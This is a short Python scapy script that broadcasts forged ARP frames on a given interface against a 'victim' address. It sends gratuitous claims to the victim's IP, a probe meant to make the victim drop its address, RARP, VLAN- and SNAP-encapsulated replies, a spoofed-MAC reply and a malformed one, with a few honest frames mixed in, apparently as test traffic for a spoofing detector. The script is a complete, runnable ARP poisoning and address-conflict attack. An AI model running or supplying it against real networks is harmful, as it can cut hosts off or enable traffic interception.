# What scapy sends of ARP, forged and honest. Arguments: interface, victim's address.
import sys
from scapy.all import ARP, Dot1AD, Dot1Q, Ether, LLC, SNAP, conf, get_if_hwaddr, sendp

iface, victim = sys.argv[1:]
own = get_if_hwaddr(iface)
everyone = "ff:ff:ff:ff:ff:ff"


def claim(ip, op=1, hw=own, **more):
    return ARP(op=op, hwsrc=hw, psrc=ip, hwdst="00:00:00:00:00:00", pdst=more.get("pdst", ip))


ether = Ether(src=own, dst=everyone)
sendp([
    # forged
    ether / claim(victim),  # a gratuitous request
    ether / claim("0.0.0.0", pdst="192.0.2.72"),  # a probe that makes the victim give up
    ether / ARP(op=3, hwsrc="52:54:00:00:00:73", hwdst="52:54:00:00:00:73", psrc="0.0.0.0", pdst="0.0.0.0"),
    Ether(src=own, dst=everyone, type=0x8035) / ARP(op=3, hwsrc="52:54:00:00:00:74", hwdst="52:54:00:00:00:74", psrc="0.0.0.0", pdst="0.0.0.0"),
    ether / Dot1AD(vlan=1) / Dot1Q(vlan=2) / claim("192.0.2.75", op=2),
    ether.__class__(src=own, dst=everyone) / LLC() / SNAP(OUI=0, code=0x0806) / claim("192.0.2.76", op=2),
    Ether(src="02:00:00:00:00:99", dst=everyone) / claim("192.0.2.20", op=2, hw="02:00:00:00:00:99"),
    ether / ARP(op=2, hwlen=255, hwsrc=own, psrc="192.0.2.20"),
    # honest
    ether / claim("192.0.2.20"),
    ether / claim("0.0.0.0", pdst="192.0.2.21"),
    ether / ARP(op=1, hwsrc=own, psrc="192.0.2.5", pdst="192.0.2.1"),
], iface=iface, verbose=False)
